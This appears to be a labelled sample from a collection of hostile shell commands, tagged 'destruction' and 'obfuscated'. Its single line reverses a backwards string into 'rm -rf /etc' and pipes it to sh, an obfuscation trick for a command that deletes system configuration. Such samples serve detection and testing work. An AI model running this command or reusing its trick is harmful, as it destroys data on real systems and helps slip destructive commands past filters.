# description: Reverses a backwards string into rm -rf /etc and pipes it to sh.
# family: destruction
# obfuscated: yes
echo 'cte/ fr- mr' | rev | sh
